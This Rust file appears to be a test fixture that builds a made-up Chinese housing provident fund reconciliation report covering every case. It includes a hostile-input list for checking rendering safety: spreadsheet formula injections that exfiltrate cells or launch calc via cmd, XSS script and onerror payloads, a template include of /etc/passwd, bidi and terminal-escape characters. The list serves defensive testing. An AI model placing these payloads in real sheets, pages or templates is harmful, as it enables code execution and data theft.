//! An invented report with every case once, hostile texts included.
//!
//! Every name, number and text here is made up. The texts in [`HOSTILE`] are possible attacks of a payer.

use chrono::{Days, NaiveDate};
use reconcile::report::*;
use remittance::{Bilingual, Money, Outcome, Reason, RemarkField, Tally, YearMonth};

/// Texts that a payer might write to break a page, a sheet or a terminal.
pub(crate) const HOSTILE: [&str; 8] = [
    "=HYPERLINK(\"http://example.invalid/?\"&A1,\"点我\")",
    "<script>alert('公积金')</script><img src=x onerror=alert(1)>",
    "\" onmouseover=\"alert(1)\" x=\"",
    "+86 0772 0000000",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "缴费\u{202E}3573316091P\u{202C}五月",
    "{{ self }}{% include \"/etc/passwd\" %}{# #}",
    "第一行\r\n第二行\t\u{0}\u{1B}[31m红\u{200B}字",
];

pub(crate) fn day(year: i32, month: u32, day: u32) -> NaiveDate {
    NaiveDate::from_ymd_opt(year, month, day).unwrap()
}

fn fen(fen: i64) -> Money {
    Money::from_fen(fen)
}

fn both(zh: &str, en: &str) -> Bilingual {
    Bilingual::new(zh.to_owned(), en.to_owned())
}

/// `"p|~P|_ |…"`: pieces by kind; `~` read, `_` stripped, otherwise plain.
fn marked(field: RemarkField, pieces: &[&str]) -> RemarkText {
    let segment = |piece: &&str| {
        let (kind, text) = match piece.chars().next() {
            Some('~') => (SegmentKind::Read, &piece[1..]),
            Some('_') => (SegmentKind::Stripped, &piece[1..]),
            _ => (SegmentKind::Plain, *piece),
        };
        Segment { text: text.to_owned(), kind }
    };
    RemarkText::new(field, pieces.iter().map(segment).collect())
}

fn near(
    reference: &str,
    employer: &str,
    amount: i64,
    evidence: &[(EvidenceKind, Holds, [&str; 2])],
) -> Suggestion {
    Suggestion {
        reference: reference.parse().unwrap(),
        employer: employer.to_owned(),
        month: YearMonth::new(2026, 5).unwrap(),
        amount: fen(amount),
        evidence: evidence
            .iter()
            .map(|(kind, holds, [detail, english])| Evidence {
                kind: *kind,
                holds: *holds,
                detail: (*detail).to_owned(),
                english: (*english).to_owned(),
            })
            .collect(),
    }
}

const NINE_DIGITS: [&str; 2] = ["前 9 位相同", "the first 9 digits are the same"];

const BANKS: [(&str, &str, &str); 3] = [
    ("icbc", "工商银行", "2105400009300123456"),
    ("ccb", "建设银行", "45050162000000007788"),
    ("psbc", "邮储银行", "945001010000991122"),
];

struct Draft<'a> {
    bank: usize,
    serial: &'a str,
    age_days: u32,
    amount: i64,
    payer: (&'a str, &'a str),
    remarks: Vec<RemarkText>,
    reason: Reason,
    explanation: Bilingual,
    suggestions: Vec<Suggestion>,
    status: (Stage, Option<&'a str>, &'a str),
}

const AS_OF: (i32, u32, u32) = (2026, 5, 12);

fn item(number: u64, draft: Draft<'_>) -> Item {
    let (bank, bank_name, account) = BANKS[draft.bank];
    Item {
        number,
        item_id: format!("S{number:06}"),
        bank: bank.to_owned(),
        bank_name: bank_name.to_owned(),
        account: MaskedAccount::of(account),
        serial: draft.serial.to_owned(),
        booked_on: day(AS_OF.0, AS_OF.1, AS_OF.2) - Days::new(draft.age_days.into()),
        amount: fen(draft.amount),
        payer_name: draft.payer.0.to_owned(),
        payer_account: MaskedAccount::of(draft.payer.1),
        remarks: draft.remarks,
        reason: draft.reason,
        explanation: draft.explanation,
        suggestions: draft.suggestions,
        age_days: draft.age_days,
        assignee: draft.status.1.map(str::to_owned),
        status: draft.status.0,
        note: draft.status.2.to_owned(),
    }
}

use EvidenceKind as Kind;
use RemarkField::{Note, Postscript, Purpose, Summary};

fn everyday() -> Vec<Draft<'static>> {
    vec![one_digit_short(), paid_twice(), no_reference(), two_references(), taken_back()]
}

fn one_digit_short() -> Draft<'static> {
    Draft {
        bank: 0,
        serial: "20260511000018734521",
        age_days: 1,
        amount: 12_000_00,
        payer: ("柳江县青石建材有限公司", "6212260000001234567"),
        remarks: vec![
            marked(Postscript, &["~P190613375", " 3月公积金"]),
            marked(Summary, &["网银转账"]),
        ],
        reason: Reason::UnreadableReference,
        explanation: both(
            "附言中的登记号“P190613375”只有 9 位数字，缺 1 位；空格后的“3”属于“3月”，不能补入。",
            "The reference “P190613375” has 9 digits, one is missing; the 3 after the space belongs to 3月 (March) and cannot complete it.",
        ),
        suggestions: vec![
            near(
                "P1906133753",
                "柳江县青石建材有限公司",
                12_000_00,
                &[
                    (Kind::Amount, Holds::Yes, ["", ""]),
                    (Kind::PayerAccount, Holds::Yes, ["", ""]),
                    (Kind::Name, Holds::Yes, ["", ""]),
                    (Kind::Reference, Holds::Nearly, NINE_DIGITS),
                ],
            ),
            near(
                "P1906133758",
                "柳江青石运输有限公司",
                11_800_00,
                &[
                    (Kind::Amount, Holds::No, ["差 200.00", "200.00 apart"]),
                    (Kind::Name, Holds::Nearly, ["", ""]),
                    (Kind::Reference, Holds::Nearly, NINE_DIGITS),
                ],
            ),
        ],
        status: (Stage::Open, None, ""),
    }
}

fn paid_twice() -> Draft<'static> {
    Draft {
        bank: 1,
        serial: "81-3519818014YGCW3WL7L",
        age_days: 12,
        amount: 8_640_50,
        payer: ("桂中云帆软件股份有限公司", "45001604000099887766"),
        remarks: vec![
            marked(Postscript, &["~P1906", "_ ", "~1340", "_-", "~28", " 四月"]),
            marked(Purpose, &["公积金"]),
        ],
        reason: Reason::NoticeAlreadyPaid,
        explanation: both(
            "登记号 P1906134028 的通知书已于 2026-04-28 缴清，本笔为第二次付款。",
            "The notice P1906134028 was settled on 2026-04-28; this is a second payment.",
        ),
        suggestions: vec![near(
            "P1906135511",
            "桂中云帆软件股份有限公司",
            8_640_50,
            &[
                (Kind::Amount, Holds::Yes, ["", ""]),
                (Kind::PayerAccount, Holds::Yes, ["", ""]),
                (Kind::Reference, Holds::No, ["", ""]),
            ],
        )],
        status: (Stage::Assigned, Some("归集科 一号窗口"), "已电话联系，等单位回复"),
    }
}

fn no_reference() -> Draft<'static> {
    Draft {
        bank: 0,
        serial: "20260415000000077120",
        age_days: 27,
        amount: 3_200_00,
        payer: ("白鹭滩幼儿园", "20881001234561023"),
        remarks: vec![marked(Postscript, &["2026年4月住房公积金"])],
        reason: Reason::NoReference,
        explanation: both(
            "四个字段中都没有字母 P 加十位数字的登记号。",
            "No field holds a reference of P and ten digits.",
        ),
        suggestions: vec![],
        status: (Stage::Open, None, ""),
    }
}

fn two_references() -> Draft<'static> {
    Draft {
        bank: 2,
        serial: "PSBC-0000000000000000000000000042",
        age_days: 44,
        amount: 56_310_00,
        payer: ("龙潭湖热力（集团）有限责任公司第二供热分公司", "9450010100003344"),
        remarks: vec![marked(Postscript, &["~P1906130001", "、", "~P1906130002", " 两个账户"])],
        reason: Reason::SeveralReferences,
        explanation: both(
            "附言写了两个登记号，两张通知书合计 56,320.00 元，与到账金额相差 10.00 元。",
            "The remark names two references; their notices sum to 56,320.00, 10.00 more than came.",
        ),
        suggestions: vec![],
        status: (Stage::Proposed, Some("归集科 二号窗口"), ""),
    }
}

fn taken_back() -> Draft<'static> {
    Draft {
        bank: 1,
        serial: "81-0000000000REV0001",
        age_days: 3,
        amount: -4_500_00,
        payer: ("鱼峰桥头面粉厂", "45001604000011112222"),
        remarks: vec![marked(Summary, &["冲正"]), marked(Note, &["原流水 81-0000000000REV0000"])],
        reason: Reason::ReversalOfMatched,
        explanation: both(
            "银行冲回了一笔已入账的缴款（通知书 P1906132210），需要红冲。",
            "The bank took back a settled credit (notice P1906132210); the posting must be reversed.",
        ),
        suggestions: vec![],
        status: (Stage::Approved, Some("复核岗"), ""),
    }
}

/// Reason, bank, age, amount and why, one row each.
#[rustfmt::skip] // A table is read by column.
const BY_RULE: [(Reason, usize, u32, i64, &str, &str); 7] = [
    (Reason::UnknownReference, 0, 5, 990_00, "登记号 P9999999999 在系统中不存在。", "No notice P9999999999 was ever issued."),
    (Reason::NoticeRevoked, 2, 33, 2_750_00, "通知书 P1906131188 已于 2026-04-02 撤销。", "The notice P1906131188 was revoked on 2026-04-02."),
    (Reason::Overpaid, 0, 0, 10_001_00, "应缴 10,000.00 元，同行当月到账 10,001.00 元，且没有任何一组恰好相等。", "10,000.00 was due; 10,001.00 came in one bank and month and no set of the parts is exact."),
    (Reason::CrossBank, 1, 15, 6_000_00, "两笔分别进了工商银行和建设银行，合计才够 12,000.00 元。", "The parts reach 12,000.00 only across two receiving banks."),
    (Reason::CrossMonth, 0, 52, 7_500_00, "四月与五月各到一笔，合计才够 15,000.00 元。", "The parts reach 15,000.00 only across two months."),
    (Reason::Underpaid, 2, 75, 4_999_99, "四月已关账，应缴 5,000.00 元，只到 4,999.99 元，差 0.01 元。", "April is closed: 5,000.00 was due, 4,999.99 came, 0.01 is missing."),
    (Reason::AmbiguousParts, 1, 118, 3_000_00, "有两组不同的分笔都恰好等于应缴金额，系统不替您选。", "Two different sets of parts are exact; the engine does not choose."),
];

fn by_rule() -> Vec<Draft<'static>> {
    let draft = |(reason, bank, age_days, amount, zh, en): (
        Reason,
        usize,
        u32,
        i64,
        &'static str,
        &'static str,
    )| Draft {
        bank,
        serial: "20260500000000000099",
        age_days,
        amount,
        payer: ("桂北山泉饮品有限公司", "6212260000007654321"),
        remarks: vec![marked(Postscript, &["公积金 ", "~P1906131188"])],
        reason,
        explanation: both(zh, en),
        suggestions: vec![],
        status: (Stage::Open, None, ""),
    };
    BY_RULE.into_iter().map(draft).collect()
}

fn hostile() -> Vec<Draft<'static>> {
    let long = format!("P{}", "9".repeat(40_000));
    let mut texts: Vec<String> = HOSTILE.iter().map(|text| (*text).to_owned()).collect();
    texts.extend([long, "🏠💰 公积金五月 👨‍👩‍👧 العربية עברית".to_owned()]);
    let draft = |(index, text): (usize, String)| Draft {
        bank: index % 3,
        serial: HOSTILE[index % HOSTILE.len()],
        age_days: u32::try_from(index).unwrap() * 9,
        amount: 100_00 + i64::try_from(index).unwrap(),
        payer: (HOSTILE[(index + 1) % HOSTILE.len()], "=cmd|'/C calc'!A1"),
        remarks: vec![
            RemarkText::plain(Postscript, &text),
            RemarkText::plain(Note, HOSTILE[(index + 2) % HOSTILE.len()]),
        ],
        reason: Reason::NoReference,
        explanation: both(HOSTILE[1], HOSTILE[2]),
        suggestions: vec![near(
            "P0000000001",
            HOSTILE[1],
            1,
            &[(Kind::Name, Holds::No, [HOSTILE[0]; 2])],
        )],
        status: (Stage::Open, Some(HOSTILE[1]), HOSTILE[0]),
    };
    texts.into_iter().enumerate().map(draft).collect()
}

fn tally(count: u64, amount: i64) -> Tally {
    Tally { count, amount: fen(amount).into() }
}

/// Ninety nights with a month-end wave; the last one closes at the given balance.
fn nights(closing: Tally) -> Vec<NightPoint> {
    let last = day(AS_OF.0, AS_OF.1, AS_OF.2);
    let point = |back: u64| {
        let wave = i64::try_from((back * 37 + 11) % 29).unwrap();
        let slope = i64::try_from(back).unwrap();
        NightPoint {
            night: last - Days::new(back),
            opened: tally(4 + back % 5, 9_000_00 + wave * 310_00),
            cleared: tally(3 + back % 7, 8_700_00 + wave * 290_00),
            closing: if back == 0 {
                closing
            } else {
                tally(20 + back % 9, 60_000_00 + slope * 900_00 + wave * 1_450_00)
            },
            judged: 1_200 + back,
            matched: 1_170 + back - back % 13,
        }
    };
    (0..90).rev().filter(|back| back % 7 != 3).map(point).collect()
}

fn warnings() -> Vec<Warning> {
    vec![
        Warning::FileQuarantined {
            file: "ccb-0511.xml".into(),
            why: both("第 3 行：文件含 DTD，拒收", "第 3 行：文件含 DTD，拒收"),
        },
        Warning::RowRejected {
            place: "icbc-0511.csv:14:6".into(),
            found: "1,2o0.00".into(),
            why: both("第 4 个字符应为数字，实为 “o”", "第 4 个字符应为数字，实为 “o”"),
        },
        Warning::BalanceBroken {
            place: "psbc-0511.csv:2".into(),
            account: MaskedAccount::of(BANKS[2].2),
            expected: "118,220.10".into(),
            found: "118,200.10".into(),
        },
        Warning::StatementGap {
            place: "ccb-0511.csv".into(),
            account: MaskedAccount::of(BANKS[1].2),
            closed_on: day(2026, 5, 8),
            closing: "3,044,120.55".into(),
            opened_on: day(2026, 5, 11),
            opening: "3,052,761.05".into(),
        },
        Warning::ConflictingDuplicate {
            place: "icbc-0511.csv:90".into(),
            account: MaskedAccount::of(BANKS[0].2),
            serial: "20260510000000004411".into(),
        },
        Warning::CalendarUnknown { year: 2027 },
        Warning::Other { place: HOSTILE[1].into(), said: Bilingual::fixed(HOSTILE[5], HOSTILE[0]) },
    ]
}

fn awaiting() -> Vec<Awaiting> {
    let part =
        |serial: &str, reference: &str, employer: &str, amount: i64, due: i64, received: i64| {
            Awaiting {
                reference: reference.parse().unwrap(),
                employer: employer.to_owned(),
                bank_name: "工商银行".to_owned(),
                serial: serial.to_owned(),
                booked_on: day(2026, 5, 11),
                amount: fen(amount),
                due: fen(due),
                received: fen(received).into(),
                month: YearMonth::new(2026, 5).unwrap(),
                until: day(2026, 6, 2),
            }
        };
    vec![
        part(
            "20260511000018730001",
            "P1906138801",
            "桂中云帆软件股份有限公司",
            30_000_00,
            42_118_40,
            30_000_00,
        ),
        part(
            "20260511000018730002",
            "P1906138990",
            "白沙洲园林养护有限公司",
            1_000_00,
            3_000_00,
            2_000_00,
        ),
        part("20260510000018730003", "P1906138990", HOSTILE[1], 1_000_00, 3_000_00, 2_000_00),
    ]
}

fn report_of(drafts: Vec<Draft<'_>>) -> Report {
    let items: Vec<Item> = (1..).zip(drafts).map(|(number, draft)| item(number, draft)).collect();
    let open: Tally = items.iter().map(|item| Tally::one(item.amount)).sum();
    let (new, cleared) = (tally(3, 26_991_00), tally(5, 41_207_31));
    Report {
        centre: Centre {
            centre_id: "demo".into(),
            name: "柳江市住房公积金管理中心（示例）".into(),
        },
        as_of: day(AS_OF.0, AS_OF.1, AS_OF.2),
        night: NightFigures {
            files_taken: 6,
            files_quarantined: 1,
            transactions_new: 1_214,
            seen_before: 388,
            rows_rejected: 1,
            conflicting_duplicates: 1,
            letters: 9,
        },
        outcomes: vec![
            OutcomeTotal { outcome: Outcome::Matched, tally: tally(1_183, 14_220_310_44) },
            OutcomeTotal { outcome: Outcome::Awaiting, tally: tally(3, 32_000_00) },
            OutcomeTotal { outcome: Outcome::Suspense, tally: new },
            OutcomeTotal { outcome: Outcome::Returned, tally: tally(2, 0) },
            OutcomeTotal { outcome: Outcome::Ignored, tally: tally(23, -211_004_12) },
        ],
        movement: Movement {
            opening: open.plus(cleared).minus(new),
            new,
            cleared,
            ledger: open.amount,
        },
        awaiting: awaiting(),
        nights: nights(open),
        items,
        warnings: warnings(),
        trail: None,
    }
}

/// A realistic morning without attackers: the picture in the README shows it.
pub(crate) fn believable() -> Report {
    let mut report = report_of(everyday().into_iter().chain(by_rule()).collect());
    report.warnings.truncate(4);
    report.awaiting.truncate(2);
    report
}

/// All cases at once, attackers included.
pub(crate) fn every_case() -> Report {
    report_of(everyday().into_iter().chain(by_rule()).chain(hostile()).collect())
}

/// Many items, for size and speed.
pub(crate) fn many(count: u64) -> Report {
    let one = every_case();
    let kinds = one.items.iter().filter(|item| item.remark(Postscript).len() < 1_000).cloned();
    let kinds: Vec<Item> = kinds.collect();
    let mut report = one;
    report.items = (1..=count)
        .zip(kinds.iter().cycle())
        .map(|(number, kind)| Item { number, item_id: format!("S{number:06}"), ..kind.clone() })
        .collect();
    let open = report.open();
    report.movement = Movement { opening: open, ledger: open.amount, ..Movement::default() };
    report
}
